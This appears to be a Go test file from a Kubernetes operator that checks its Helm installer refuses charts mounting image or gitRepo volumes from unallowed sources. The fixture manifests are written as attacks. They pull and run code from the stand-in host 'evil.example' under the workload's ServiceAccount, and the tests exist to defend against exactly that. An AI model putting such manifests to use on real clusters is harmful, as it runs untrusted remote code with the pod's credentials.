//go:build envtest

/*
Copyright 2026 The meshkeeper Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package helm

import (
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/meshkeeper/meshkeeper/internal/charts"
)

// TestAChartCannotPullAnImageVolumeFromAnotherHub: an image volume (GA in Kubernetes 1.36) has the
// kubelet pull an OCI image and mount its files into the pod, where a container's command can run
// them: code from a registry the operator's installer did not allow, run with the workload's
// ServiceAccount. The image hubs the installer allowed hold for it as for the containers' images: a
// chart whose Deployment mounts one from another hub is refused, and the Deployment is not created.
func TestAChartCannotPullAnImageVolumeFromAnotherHub(t *testing.T) {
	m, c, ns := onAPIServer(t)
	m.CheckImage = charts.Policy{}.CheckImage // Istio's official hubs
	chart := attackChart("payload", `apiVersion: v1
kind: ServiceAccount
metadata: {name: agent}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: agent}
spec:
  selector: {matchLabels: {app: agent}}
  template:
    metadata: {labels: {app: agent}}
    spec:
      serviceAccountName: agent
      containers:
      - name: agent
        image: docker.io/istio/pilot:1.31.1
        command: [/payload/run]
        volumeMounts: [{name: payload, mountPath: /payload}]
      volumes:
      - name: payload
        image: {reference: "evil.example/payload:1"}
`)
	_, err := m.Ensure(t.Context(), attackRelease(ns, chart))
	if got := (&appsv1.Deployment{}); c.Get(t.Context(), client.ObjectKey{Namespace: ns, Name: "agent"}, got) == nil {
		t.Errorf("the Deployment was created with volumes %+v", got.Spec.Template.Spec.Volumes)
	}
	expectRefused(t, err, `Deployment `+ns+`/agent, which mounts image volume payload of image "evil.example/payload:1"`,
		"(rule: "+ruleImage+")")
}

// TestAChartCannotCloneAGitRepositoryIntoAPod: a gitRepo volume has the kubelet clone a repository from
// any URL into the pod (on Kubernetes 1.31 and 1.32, which meshkeeper supports, the kubelet still
// serves it by default), where a container's command can run what it cloned: code from no hub the
// installer allowed. A chart whose Deployment mounts one is refused, and the Deployment is not created.
func TestAChartCannotCloneAGitRepositoryIntoAPod(t *testing.T) {
	m, c, ns := onAPIServer(t)
	m.CheckImage = charts.Policy{}.CheckImage // Istio's official hubs
	chart := attackChart("clone", `apiVersion: v1
kind: ServiceAccount
metadata: {name: agent}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: agent}
spec:
  selector: {matchLabels: {app: agent}}
  template:
    metadata: {labels: {app: agent}}
    spec:
      serviceAccountName: agent
      containers:
      - name: agent
        image: docker.io/istio/pilot:1.31.1
        command: [/payload/run]
        volumeMounts: [{name: payload, mountPath: /payload}]
      volumes:
      - name: payload
        gitRepo: {repository: "https://evil.example/payload.git"}
`)
	_, err := m.Ensure(t.Context(), attackRelease(ns, chart))
	if got := (&appsv1.Deployment{}); c.Get(t.Context(), client.ObjectKey{Namespace: ns, Name: "agent"}, got) == nil {
		t.Errorf("the Deployment was created with volumes %+v", got.Spec.Template.Spec.Volumes)
	}
	expectRefused(t, err, `Deployment `+ns+`/agent, which mounts gitRepo volume payload, a clone of "https://evil.example/payload.git"`,
		"(rule: "+ruleImage+")")
}
